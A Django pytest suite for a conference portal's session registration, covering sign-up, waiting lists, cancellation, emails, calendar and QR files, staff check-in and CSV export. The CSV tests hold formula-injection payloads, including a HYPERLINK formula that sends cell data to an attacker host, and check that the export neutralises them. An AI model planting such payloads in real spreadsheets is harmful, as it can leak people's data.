"""Common space registration through its pages: the participant, their registrations, the staff."""

import csv
import datetime
import io
import xml.etree.ElementTree as ET

import pytest
from django.core import mail
from django.utils import timezone
from django.utils.formats import date_format
from icalendar import Calendar

from common.csvexport import safe_cell
from common.models import OutboxTask
from roundtables.models import Registration, Session
from roundtables.registration import services, tasks
from stakeholders.models import AuditEntry, Profile

pytestmark = pytest.mark.django_db

PAGE = "/en/common-space/"
REGISTER = "/en/common-space/register/"
STAFF_LIST = "/en/staff/sessions/common-space/registrations/"
CHECK_IN = "/en/staff/sessions/common-space/check-in/"
POLICY = "/en/staff/sessions/common-space/registration/"
CSV_URL = "/en/staff/sessions/common-space/registrations.csv"


def _run_outbox():
    """Run the recorded follow-up tasks in-process, as a worker would, each once."""
    from gfmd_portal.celery import app

    assert tasks.send_registration_email.name in app.tasks  # registered when the app is ready
    for task in OutboxTask.objects.filter(sent_at=None).order_by("id"):
        app.tasks[task.task_name](**task.kwargs)
        task.sent_at = timezone.now()
        task.save(update_fields=["sent_at"])


@pytest.fixture
def common_space(forum, staff):
    """Two seats: one reserved for civil society, one open; every constituency may register."""
    session = Session.objects.get(forum=forum, slug="common-space")
    services.configure_registration(
        session=session, staff=staff, total_seats=2, quotas={"civil_society": 1}, eligible_constituencies=[]
    )
    OutboxTask.objects.all().delete()
    return session


def _person(personas, name, constituency="civil_society", **kwargs):
    return personas.person(f"{name}@example.org", constituency=constituency, **kwargs)


def _messages(response):
    return [str(message) for message in response.context["messages"]]


def _register(person, session):
    return services.register(session=session, person=person)[0]


# --- The participant --------------------------------------------------------------------------


def test_anonymous_visitors_see_the_session_and_are_asked_to_sign_in(client, common_space):
    response = client.get(PAGE)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Common Space" in html
    assert "28 June 2017 – 30 June 2017" in html
    assert "Berlin" in html
    assert "Open" in html
    assert "1 of 1 left" in html  # the civil-society seat and the open seat
    assert "Sign in to register" in html
    assert 'href="/en/accounts/login/?next=/en/common-space/"' in html
    # Anonymous register: sign in first; the page is never cached whole (seats left change).
    assert client.post(REGISTER)["Location"].startswith("/en/accounts/login/?next=")
    assert "X-Page-Cache" not in client.get(PAGE)


def test_register_confirms_shows_the_code_and_emails_it_with_the_qr_code(client, common_space, personas):
    person = _person(personas, "amina")
    client.force_login(person)
    page = client.get(PAGE).content.decode()
    assert "Accessibility needs" in page and "visa support letter" in page and "Dietary needs" in page
    assert "<strong>2</strong> seats left that you may take (Civil society)." in page

    response = client.post(
        REGISTER, {"accessibility_needs": "Step-free access", "visa_letter_needed": "yes", "dietary_needs": "Vegan"}
    )
    assert response.status_code == 302
    assert response["Location"] == PAGE
    registration = Registration.objects.get(person=person)
    assert (registration.status, registration.seat_pool) == ("confirmed", "civil_society")
    assert (registration.accessibility_needs, registration.visa_letter_needed, registration.dietary_needs) == (
        "Step-free access",
        True,
        "Vegan",
    )
    response = client.get(PAGE)
    page = response.content.decode()
    assert _messages(response) == ["Your registration is confirmed."]
    code = registration.checkin_code
    assert f'<code class="checkin-code">{code[:5]}-{code[5:]}</code>' in page  # in two groups
    assert f'src="/en/accounts/registrations/{registration.pk}/qr.svg"' in page
    assert f'href="/en/accounts/registrations/{registration.pk}/calendar.ics"' in page
    # Cancelling asks first: the button is a link to the question.
    assert f'href="/en/accounts/registrations/{registration.pk}/cancel/?next=/en/common-space/"' in page
    assert 'name="dietary_needs"' not in page  # registered: no second form

    _run_outbox()
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == [person.email]
    assert "confirmed" in message.subject
    assert f"Your check-in code: {registration.display_code}\n" in message.body
    assert f"http://127.0.0.1:8000/en/accounts/registrations/{registration.pk}/calendar.ics" in message.body
    [(filename, content, mimetype)] = message.attachments
    assert (filename, mimetype) == ("check-in-code.svg", "image/svg+xml")
    assert ET.fromstring(content).tag == "{http://www.w3.org/2000/svg}svg"  # noqa: S314 - our own SVG


def test_the_waiting_list_message_gives_the_position_and_a_second_post_changes_nothing(client, common_space, personas):
    _register(_person(personas, "first"), common_space)
    _register(_person(personas, "second", "government"), common_space)
    _register(_person(personas, "third", "government"), common_space)
    person = _person(personas, "fourth")
    client.force_login(person)
    assert "<strong>0</strong> seats left that you may take" in client.get(PAGE).content.decode()

    response = client.post(REGISTER, {"dietary_needs": "Halal"}, follow=True)
    assert _messages(response) == ["You are on the waiting list, position 2. We will email you if a seat frees up."]
    assert "You are number <strong>2</strong> on the waiting list" in response.content.decode()

    # A double click: the same registration, said so.
    again = client.post(REGISTER, {"dietary_needs": "Halal"}, follow=True)
    assert _messages(again) == [
        "You are already registered. You are on the waiting list, position 2. We will email you if a seat frees up."
    ]
    assert Registration.objects.filter(person=person).count() == 1

    OutboxTask.objects.exclude(kwargs__registration_id=Registration.objects.get(person=person).pk).delete()
    _run_outbox()
    [message] = mail.outbox
    assert "waiting list" in message.subject
    assert "position 2" in message.body
    assert not message.attachments


def test_cancelling_gives_the_seat_to_the_first_person_waiting_who_is_emailed(client, common_space, personas):
    holder = _person(personas, "holder")
    mine = _register(holder, common_space)
    _register(_person(personas, "open-seat", "academia"), common_space)
    waiting = _register(_person(personas, "waiting", language="fr"), common_space)
    assert waiting.status == "waitlisted"
    _run_outbox()
    mail.outbox.clear()

    client.force_login(holder)
    response = client.post(f"/en/accounts/registrations/{mine.pk}/cancel/", {"next": PAGE}, follow=True)
    assert response.redirect_chain == [(PAGE, 302)]
    assert _messages(response) == ["Your registration for Common Space is cancelled."]
    assert "Register" in response.content.decode()  # may register again
    waiting.refresh_from_db()
    assert (waiting.status, waiting.seat_pool) == ("confirmed", "civil_society")

    _run_outbox()
    by_person = {message.to[0]: message for message in mail.outbox}
    assert set(by_person) == {"holder@example.org", "waiting@example.org"}
    assert "cancelled" in by_person["holder@example.org"].subject
    promoted = by_person["waiting@example.org"]
    assert waiting.display_code in promoted.body
    assert promoted.subject == "[GFMD] Une place s’est libérée pour vous : Espace commun"  # in French
    assert "Votre code d’entrée :" in promoted.body
    assert "/fr/accounts/registrations/" in promoted.body  # links in the person's language
    assert promoted.attachments[0][0] == "check-in-code.svg"
    # Cancelling again says so and changes nothing.
    again = client.post(f"/en/accounts/registrations/{mine.pk}/cancel/", follow=True)
    assert _messages(again) == ["This registration was already cancelled."]
    assert again.redirect_chain == [("/en/accounts/registrations/", 302)]


def test_a_refusal_is_shown_and_keeps_what_was_typed(client, common_space, personas):
    policy = common_space.registration_policy
    policy.eligible_constituencies = ["government"]
    policy.save()
    person = _person(personas, "ngo")
    client.force_login(person)
    assert "This session is not open to your constituency." in client.get(PAGE).content.decode()

    response = client.post(
        REGISTER,
        {"accessibility_needs": "Hearing loop", "visa_letter_needed": "no", "dietary_needs": "No nuts, please"},
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "This session is not open to your constituency." in html
    assert "Hearing loop" in html
    assert "No nuts, please" in html
    assert '<option value="no" selected>' in html
    assert not Registration.objects.filter(person=person).exists()


def test_a_closed_registration_and_one_not_yet_open(client, common_space, personas):
    policy = common_space.registration_policy
    policy.closes_at = timezone.now() - datetime.timedelta(hours=1)
    policy.save()
    client.force_login(_person(personas, "late"))
    html = client.get(PAGE).content.decode()
    assert "Closed" in html and "Registration is closed." in html
    assert 'name="dietary_needs"' not in html
    response = client.post(REGISTER, {"dietary_needs": "Vegetarian"})
    assert "Registration is closed." in response.content.decode()
    assert "Vegetarian" in response.content.decode()

    policy.closes_at = None
    policy.opens_at = timezone.now() + datetime.timedelta(days=2)
    policy.save()
    html = client.get(PAGE).content.decode()
    assert "Not open yet" in html and "Registration opens on" in html


def test_the_common_space_before_staff_open_it(client, forum, personas, staff):
    """No policy yet: the page answers with the session's dates and place, and no way to register."""
    person = _person(personas, "early")
    for who in (None, person):
        if who:
            client.force_login(who)
        response = client.get(PAGE)
        html = response.content.decode()
        assert response.status_code == 200
        assert "28 June 2017 – 30 June 2017" in html and "Berlin" in html
        assert "Not open yet" in html and "Registration is not open yet." in html
        assert 'name="dietary_needs"' not in html and "Sign in to register" not in html
        assert REGISTER not in html and "seats-heading" not in html
    assert client.post(REGISTER, {"dietary_needs": "Vegan"}).status_code == 404
    assert not Registration.objects.exists()
    # Other sessions have no page until staff open them.
    assert client.get("/en/sessions/round-table-1-1/registration/").status_code == 404

    # Staff set an opening date in the future: the page gives it.
    opens_at = timezone.now() + datetime.timedelta(days=3)
    services.configure_registration(
        session=Session.objects.get(forum=forum, slug="common-space"),
        staff=staff,
        total_seats=5,
        quotas={},
        eligible_constituencies=[],
        opens_at=opens_at,
    )
    opening = date_format(timezone.localtime(opens_at), "DATETIME_FORMAT")
    client.logout()
    html = client.get(PAGE).content.decode()
    assert f"Registration opens on {opening}." in html
    assert "Sign in to register" not in html and 'name="dietary_needs"' not in html
    client.force_login(person)
    html = client.get(PAGE).content.decode()
    assert f"Registration opens on {opening}." in html
    assert 'name="dietary_needs"' not in html and ">Register</button>" not in html


def test_cancelling_asks_first_and_only_a_post_cancels(client, common_space, personas):
    person = _person(personas, "doubtful")
    registration = _register(person, common_space)
    OutboxTask.objects.all().delete()
    client.force_login(person)
    url = f"/en/accounts/registrations/{registration.pk}/cancel/"

    response = client.get(f"{url}?next=/en/common-space/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "<h1>Cancel your registration for Common Space?</h1>" in html
    assert f'<form method="post" action="{url}"' in html
    assert '<input type="hidden" name="next" value="/en/common-space/">' in html
    assert '<button type="submit" class="btn btn-danger">Yes, cancel</button>' in html
    assert '<a class="btn btn-outline-secondary" href="/en/common-space/">Keep it</a>' in html
    registration.refresh_from_db()
    assert (registration.status, registration.cancelled_at) == ("confirmed", None)  # a GET cancels nothing
    assert not OutboxTask.objects.exists()
    french = client.get(f"/fr/accounts/registrations/{registration.pk}/cancel/").content.decode()
    assert "Annuler votre inscription à Espace commun\u00a0?" in french and "Oui, annuler" in french
    # "Keep it" leads only to a page of this site.
    html = client.get(f"{url}?next=https://elsewhere.example/").content.decode()
    assert '<a class="btn btn-outline-secondary" href="/en/accounts/registrations/">Keep it</a>' in html

    response = client.post(url, {"next": "/en/common-space/"}, follow=True)
    assert response.redirect_chain == [(PAGE, 302)]
    assert _messages(response) == ["Your registration for Common Space is cancelled."]
    registration.refresh_from_db()
    assert registration.status == "cancelled" and registration.cancelled_at is not None
    # Asked again once cancelled: nothing to confirm.
    response = client.get(url, follow=True)
    assert response.redirect_chain == [("/en/accounts/registrations/", 302)]
    assert _messages(response) == ["This registration was already cancelled."]


def test_the_page_in_french(client, common_space, personas):
    client.force_login(_person(personas, "marie", language="fr"))
    html = client.get("/fr/common-space/").content.decode()
    assert '<html lang="fr">' in html
    assert "Espace commun" in html
    assert "places restantes que vous pouvez prendre (Société civile)" in html
    assert "M’inscrire" in html


def test_only_the_questions_the_policy_asks_are_asked(client, common_space, personas):
    policy = common_space.registration_policy
    policy.ask_visa_letter = policy.ask_dietary = False
    policy.save()
    person = _person(personas, "brief")
    client.force_login(person)
    html = client.get(PAGE).content.decode()
    assert 'name="accessibility_needs"' in html
    assert 'name="visa_letter_needed"' not in html and 'name="dietary_needs"' not in html
    client.post(REGISTER, {"accessibility_needs": "Wheelchair", "dietary_needs": "ignored"})
    registration = Registration.objects.get(person=person)
    assert (registration.accessibility_needs, registration.dietary_needs) == ("Wheelchair", "")


def test_sessions_without_a_policy_a_draft_or_an_unknown_slug_are_404(client, common_space, personas):
    client.force_login(_person(personas, "visitor"))
    assert client.get("/en/sessions/common-space/registration/").status_code == 200
    assert client.get("/en/sessions/business-interface/registration/").status_code == 404  # draft, no policy
    assert client.get("/en/sessions/round-table-1-1/registration/").status_code == 404
    assert client.get("/en/sessions/nothing-here/registration/").status_code == 404
    assert client.post("/en/sessions/business-interface/registration/register/").status_code == 404
    common_space.status = Session.Status.DRAFT
    common_space.save()
    assert client.get(PAGE).status_code == 404


def test_another_session_has_the_same_pages(client, forum, staff, personas):
    session = Session.objects.get(forum=forum, slug="business-interface")
    session.status = Session.Status.PUBLISHED
    session.save()
    services.configure_registration(
        session=session, staff=staff, total_seats=5, quotas={}, eligible_constituencies=["private_sector"]
    )
    person = _person(personas, "ceo", "private_sector")
    client.force_login(person)
    response = client.post("/en/sessions/business-interface/registration/register/", {})
    assert response["Location"] == "/en/sessions/business-interface/registration/"
    assert Registration.objects.get(person=person).session == session
    assert "Business Interface" in client.get("/en/accounts/registrations/").content.decode()


def test_my_registrations_lists_them_and_the_account_page_links_there(client, common_space, personas):
    person = _person(personas, "mine")
    registration = _register(person, common_space)
    client.force_login(person)
    assert 'href="/en/accounts/registrations/"' in client.get("/en/accounts/").content.decode()
    html = client.get("/en/accounts/registrations/").content.decode()
    assert "Common Space" in html
    assert "Confirmed" in html
    assert f'<code class="checkin-code">{registration.display_code}</code>' in html
    assert f'href="/en/accounts/registrations/{registration.pk}/cancel/"' in html


def test_someone_elses_registration_is_a_404_everywhere(client, common_space, personas):
    registration = _register(_person(personas, "owner"), common_space)
    client.force_login(_person(personas, "intruder"))
    base = f"/en/accounts/registrations/{registration.pk}/"
    assert client.get(base + "calendar.ics").status_code == 404
    assert client.get(base + "qr.svg").status_code == 404
    assert client.post(base + "cancel/").status_code == 404
    registration.refresh_from_db()
    assert registration.status == "confirmed"


def test_the_calendar_file_parses_with_a_stable_uid(client, common_space, personas):
    person = _person(personas, "cal")
    registration = _register(person, common_space)
    client.force_login(person)
    url = f"/en/accounts/registrations/{registration.pk}/calendar.ics"

    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="common-space.ics"'
    [event] = Calendar.from_ical(response.content).walk("VEVENT")
    assert str(event["UID"]) == f"session-{common_space.pk}@127.0.0.1"
    assert event.decoded("DTSTART") == datetime.date(2017, 6, 28)  # all day, on the forum's days
    assert event.decoded("DTEND") == datetime.date(2017, 7, 1)  # exclusive
    assert str(event["STATUS"]) == "CONFIRMED"
    # The code as the person reads it elsewhere (on the page, the QR code's caption): in groups.
    from roundtables.registration.codes import display

    assert "-" in display(registration.checkin_code)
    assert f"Check-in code: {display(registration.checkin_code)}" in str(event["DESCRIPTION"])

    common_space.start = datetime.datetime(2017, 6, 29, 9, 30, tzinfo=datetime.UTC)
    common_space.end = datetime.datetime(2017, 6, 29, 13, 0, tzinfo=datetime.UTC)
    common_space.room = "Hall 2"
    common_space.save()
    calendar = Calendar.from_ical(client.get(url).content)
    [event] = calendar.walk("VEVENT")
    assert str(event["UID"]) == f"session-{common_space.pk}@127.0.0.1"
    start = event.decoded("DTSTART")
    assert (start.hour, start.minute, str(start.tzinfo)) == (11, 30, "Europe/Berlin")
    assert event.decoded("DTEND").hour == 15
    assert str(event["LOCATION"]) == "Hall 2, Berlin"
    assert [str(zone["TZID"]) for zone in calendar.walk("VTIMEZONE")] == ["Europe/Berlin"]


def test_without_any_date_the_calendar_is_a_clear_404(client, common_space, personas):
    forum = common_space.forum
    forum.start_date = forum.end_date = None
    forum.save()
    person = _person(personas, "nodate")
    registration = _register(person, common_space)
    client.force_login(person)
    response = client.get(f"/en/accounts/registrations/{registration.pk}/calendar.ics")
    assert response.status_code == 404
    assert "has no date yet" in response.content.decode()


def test_the_qr_code_is_an_svg_image(client, common_space, personas):
    person = _person(personas, "qr")
    registration = _register(person, common_space)
    client.force_login(person)
    response = client.get(f"/en/accounts/registrations/{registration.pk}/qr.svg")
    assert response.status_code == 200
    assert response["Content-Type"] == "image/svg+xml"
    assert response["Cache-Control"] == "private, no-store"
    root = ET.fromstring(response.content)  # noqa: S314 - our own SVG
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert root.findall("{http://www.w3.org/2000/svg}path")


# --- Staff ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1-555", "'+1-555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Vegan", "Vegan"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (12, "12"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_csv_has_every_registration_and_neutralises_formulas(client, common_space, personas, staff):
    attacker = _person(personas, "attacker")
    Profile.objects.filter(user=attacker).update(position='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    services.register(session=common_space, person=attacker, dietary_needs='=HYPERLINK("http://x")')
    waiting = _register(_person(personas, "waits", "government"), common_space)
    _register(_person(personas, "waits2", "government"), common_space)
    services.cancel(registration=waiting, actor=waiting.person)

    client.force_login(staff)
    response = client.get(CSV_URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="registrations-common-space.csv"'
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(content)))
    assert header[:7] == ["Email", "Name", "Organisation", "Position", "Constituency", "Status", "Seats"]
    assert len(rows) == 3
    by_email = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    row = by_email["attacker@example.org"]
    assert row["Position"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["Dietary needs"] == '\'=HYPERLINK("http://x")'
    assert (row["Constituency"], row["Status"], row["Seats"]) == ("Civil society", "Confirmed", "Civil society")
    assert by_email["waits@example.org"]["Status"] == "Cancelled"
    assert by_email["waits@example.org"]["Cancelled"]
    assert by_email["waits2@example.org"]["Seats"] == "Open seats"  # promoted into the open seat


def _fill(common_space, personas):
    """civil society: 1 confirmed (quota), 1 waiting; government: 1 confirmed (open), 1 waiting, 1 cancelled."""
    people = {
        "cs1": _person(personas, "cs1"),
        "gov1": _person(personas, "gov1", "government"),
        "cs2": _person(personas, "cs2"),
        "gov2": _person(personas, "gov2", "government"),
        "gov3": _person(personas, "gov3", "government"),
    }
    registrations = {name: _register(person, common_space) for name, person in people.items()}
    services.cancel(registration=registrations["gov3"], actor=people["gov3"])
    return registrations


def test_staff_list_filters_counts_and_chart(client, common_space, personas, staff):
    registrations = _fill(common_space, personas)
    client.force_login(staff)
    response = client.get(STAFF_LIST)
    html = response.content.decode()
    assert response.status_code == 200
    counts = response.context["counts"]
    assert [(row["label"], row["values"], row["total"]) for row in counts["rows"]] == [
        ("Government", [1, 1, 1], 3),
        ("Civil society", [1, 1, 0], 2),
    ]
    assert counts["totals"] == [2, 2, 1]
    pools = [(pool["label"], pool["taken"], pool["seats"], pool["percent"]) for pool in response.context["pools"]]
    assert pools == [("Civil society", 1, 1, 100), ("Open seats", 1, 1, 100)]
    assert html.count('<svg class="fill-bar"') == 2
    assert "1 of 1 (100%)" in html
    assert " style=" not in html and "<script>" not in html  # CSP: no inline styles or scripts
    assert "position 2" in html  # cs2 waits behind gov2

    waiting = client.get(STAFF_LIST, {"status": "waitlisted"})
    assert [row.pk for row in waiting.context["rows"]] == [registrations["cs2"].pk, registrations["gov2"].pk]
    government = client.get(STAFF_LIST, {"constituency": "government", "status": "cancelled"})
    assert [row.pk for row in government.context["rows"]] == [registrations["gov3"].pk]
    assert len(client.get(STAFF_LIST, {"status": "nonsense"}).context["rows"]) == 5


def test_staff_cancel_and_promote_with_a_reason(client, common_space, personas, staff):
    registrations = _fill(common_space, personas)
    client.force_login(staff)
    waiting = registrations["gov2"]
    url = STAFF_LIST + "?status=waitlisted"

    response = client.post(url, {"action": "promote", "registration": waiting.pk, "reason": ""}, follow=True)
    assert response.redirect_chain == [(url, 302)]
    assert _messages(response) == ["Give the reason, then press the button again."]
    response = client.post(url, {"action": "promote", "registration": waiting.pk, "reason": "Speaker"}, follow=True)
    assert _messages(response) == ["No seat that this person may take is free. Cancel a registration first."]

    response = client.post(
        STAFF_LIST,
        {"action": "cancel", "registration": registrations["gov1"].pk, "reason": "Duplicate account"},
        follow=True,
    )
    assert _messages(response) == [
        "The registration of gov1@example.org is cancelled; they are told by email. "
        "cs2@example.org had the first place on the waiting list and now has the seat."
    ]
    entry = AuditEntry.objects.get(action="roundtables.registration.cancelled")
    assert (entry.actor, entry.after["reason"]) == (staff, "Duplicate account")
    # The open seat went to cs2 (first waiting); gov2 still waits and no seat is free.
    assert Registration.objects.get(pk=registrations["cs2"].pk).status == "confirmed"
    cancel_cs1 = {"action": "cancel", "registration": registrations["cs1"].pk, "reason": "Asked by phone"}
    assert _messages(client.post(STAFF_LIST, cancel_cs1, follow=True)) == [
        "The registration of cs1@example.org is cancelled; they are told by email."
    ]
    # The civil-society seat is free, but gov2 may not take it: staff cannot promote into it either.
    response = client.post(url, {"action": "promote", "registration": waiting.pk, "reason": "Speaker"}, follow=True)
    assert "No seat" in _messages(response)[0]
    # A registration of another session is a 404.
    assert client.post(STAFF_LIST, {"action": "cancel", "registration": 999999, "reason": "x"}).status_code == 404


def test_staff_promote_by_hand_into_a_free_seat(client, common_space, personas, staff):
    policy_total = common_space.registration_policy
    waiting = [_register(_person(personas, f"w{n}", "government"), common_space) for n in range(2)][1]
    assert waiting.status == "waitlisted"
    policy_total.total_seats = 3
    policy_total.save()
    client.force_login(staff)
    response = client.post(
        STAFF_LIST, {"action": "promote", "registration": waiting.pk, "reason": "Keynote speaker"}, follow=True
    )
    assert _messages(response) == ["w1@example.org is confirmed; they are told by email."]
    waiting.refresh_from_db()
    assert (waiting.status, waiting.seat_pool) == ("confirmed", "open")


def test_staff_check_in_outcomes(client, common_space, personas, staff):
    person = _person(personas, "door", organisation=personas.civil_society("Migrant Rights Network"))
    person.first_name, person.last_name = "Amina", "Diallo"
    person.save()
    confirmed = _register(person, common_space)
    _register(_person(personas, "open", "academia"), common_space)
    waiting = _register(_person(personas, "later", "academia"), common_space)
    client.force_login(staff)
    page = client.get(CHECK_IN).content.decode()
    assert "autofocus" in page
    assert "Checked in so far: 0 of 2 confirmed participants." in page

    code = confirmed.checkin_code
    html = client.post(CHECK_IN, {"code": f"  {code[:5].lower()}-{code[5:].lower()} "}).content.decode()
    assert '<strong>Checked in:</strong> <span class="checked-name">Amina DIALLO</span>' in html
    assert '<span class="checked-organisation">Migrant Rights Network</span>' in html
    assert '<span class="checked-constituency">Civil society</span>' in html
    assert 'value=""' in html and "autofocus" in html  # the field is empty and focused for the next person
    assert code not in html and confirmed.display_code not in html
    assert "Checked in so far: 1 of 2 confirmed participants." in html
    confirmed.refresh_from_db()
    first = confirmed.checked_in_at
    assert first is not None

    html = client.post(CHECK_IN, {"code": code}).content.decode()
    confirmed.refresh_from_db()
    assert confirmed.checked_in_at == first  # the first check-in is kept
    time = timezone.localtime(first).strftime("%H:%M")
    assert 'class="alert alert-warning"' in html
    assert f"Already checked in at {time}." in html
    assert "This code was used before: the first check-in is kept." in html
    assert '<span class="checked-name">Amina DIALLO</span> · Migrant Rights Network · Civil society' in html
    assert "Checked in so far: 1 of 2 confirmed participants." in html

    # Checked in on an earlier day: the warning gives the day too.
    Registration.objects.filter(pk=confirmed.pk).update(checked_in_at=first - datetime.timedelta(days=1))
    earlier = timezone.localtime(first - datetime.timedelta(days=1))
    html = client.post(CHECK_IN, {"code": confirmed.display_code}).content.decode()
    assert f"Already checked in on {earlier:%-d %B %Y} at {earlier:%H:%M}." in html

    assert "Unknown code." in client.post(CHECK_IN, {"code": "not-a-code"}).content.decode()
    html = client.post(CHECK_IN, {"code": waiting.checkin_code}).content.decode()
    assert "Not confirmed." in html and "On the waiting list" in html
    # A code of another session is unknown here.
    assert (
        "Unknown code."
        in client.post(
            "/en/staff/sessions/business-interface/check-in/", {"code": confirmed.checkin_code}
        ).content.decode()
    )


def test_staff_open_and_change_registration(client, forum, personas, staff):
    client.force_login(staff)
    page = client.get(POLICY).content.decode()
    for name in ("seats_government", "seats_civil_society", "seats_private_sector", "seats_academia"):
        assert f'name="{name}"' in page
    assert "does not take registrations yet" in page
    data = {
        "total_seats": "10",
        "seats_civil_society": "3",
        "seats_private_sector": "2",
        "eligible_constituencies": ["civil_society", "private_sector", "government"],
        "opens_at": "2017-05-01T09:00",
        "closes_at": "2017-06-20T18:00",
        "ask_accessibility": "on",
        "ask_dietary": "on",
    }
    response = client.post(POLICY, data)
    assert response["Location"] == STAFF_LIST
    policy = Session.objects.get(forum=forum, slug="common-space").registration_policy
    assert policy.quotas() == {"civil_society": 3, "private_sector": 2}
    assert policy.open_seats() == 5
    assert (policy.ask_accessibility, policy.ask_visa_letter, policy.ask_dietary) == (True, False, True)
    assert timezone.localtime(policy.opens_at).strftime("%Y-%m-%d %H:%M %Z") == "2017-05-01 09:00 CEST"
    assert AuditEntry.objects.filter(action="roundtables.registration_policy.saved").count() == 1
    # The form shows the saved values.
    page = client.get(POLICY).content.decode()
    assert 'value="2017-05-01T09:00"' in page
    assert 'name="seats_civil_society" value="3"' in page

    response = client.post(POLICY, {**data, "seats_government": "6"})
    assert response.status_code == 200
    assert "The seats per constituency add up to more than the total seats." in response.content.decode()
    response = client.post(POLICY, {**data, "closes_at": "2017-04-01T09:00"})
    assert "Registration must close after it opens." in response.content.decode()
    policy.refresh_from_db()
    assert policy.total_seats == 10 and policy.quotas() == {"civil_society": 3, "private_sector": 2}


def test_participants_cannot_use_the_staff_pages(client, common_space, personas):
    person = _person(personas, "curious")
    registration = _register(person, common_space)
    client.force_login(person)
    for url in (STAFF_LIST, CSV_URL, CHECK_IN, POLICY):
        assert client.get(url).status_code == 403
    assert client.post(CHECK_IN, {"code": registration.checkin_code}).status_code == 403
    registration.refresh_from_db()
    assert registration.checked_in_at is None


@pytest.mark.parametrize("count", [1, 12])
def test_staff_list_query_count(client, common_space, personas, staff, django_assert_num_queries, count):
    for number in range(count):
        _register(
            _person(personas, f"q{number}", ["civil_society", "government", "academia"][number % 3]), common_space
        )
    client.force_login(staff)
    client.get(STAFF_LIST)  # warm the session
    with django_assert_num_queries(11):
        assert client.get(STAFF_LIST).status_code == 200


@pytest.mark.parametrize("count", [1, 12])
def test_participant_page_query_count(client, common_space, personas, django_assert_num_queries, count):
    for number in range(count):
        _register(_person(personas, f"q{number}"), common_space)
    client.force_login(Registration.objects.first().person)
    client.get(PAGE)
    with django_assert_num_queries(5):
        assert client.get(PAGE).status_code == 200


# --- What a registration costs ----------------------------------------------------------------


@pytest.mark.redis
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("count", [1, 40])
def test_a_registration_post_takes_eight_queries_whatever_the_number_of_registrations(
    client, shared_redis_cache, forum, personas, count
):
    """Sessions in Redis and a real broker, as in production; transactions as in production (no test
    savepoints), the outbox publishing after the commit. Confirmed, waitlisted and a second click:
    8 queries (7 for the second click) with BEGIN and COMMIT, however many people registered before."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    session = Session.objects.get(forum=forum, slug="common-space")
    services.configure_registration(
        session=session,
        staff=personas.staff(),
        total_seats=count + 1,
        quotas={"civil_society": 1},
        eligible_constituencies=[],
    )
    for number in range(count):
        _register(_person(personas, f"before{number}", "government"), session)
    OutboxTask.objects.all().delete()

    def post(person, expected_queries):
        client.force_login(person)
        with CaptureQueriesContext(connection) as queries:
            response = client.post(REGISTER, {"dietary_needs": "Halal", "visa_letter_needed": "no"})
        assert response.status_code == 302 and response["Location"] == PAGE
        assert len(queries) == expected_queries, "\n".join(query["sql"][:200] for query in queries)
        return _messages(client.get(PAGE))

    # The civil-society seat is free: confirmed. The open seats are all taken: the next one waits.
    assert post(_person(personas, "confirmed"), 8) == ["Your registration is confirmed."]
    waiting = _person(personas, "waiting", "academia")
    assert post(waiting, 8) == ["You are on the waiting list, position 1. We will email you if a seat frees up."]
    # A second click changes nothing, sends nothing, and says so.
    assert post(waiting, 7) == [
        "You are already registered. You are on the waiting list, position 1. We will email you if a seat frees up."
    ]
    live = Registration.objects.exclude(status="cancelled")
    assert live.filter(status="confirmed").count() == count + 1
    assert list(live.filter(status="waitlisted").values_list("person__username", flat=True)) == ["waiting@example.org"]
    # Each email went through the outbox and was published to the broker after the commit.
    tasks = OutboxTask.objects.order_by("id")
    assert [(task.kwargs["event"], task.sent_at is not None) for task in tasks] == [
        ("confirmed", True),
        ("waitlisted", True),
    ]
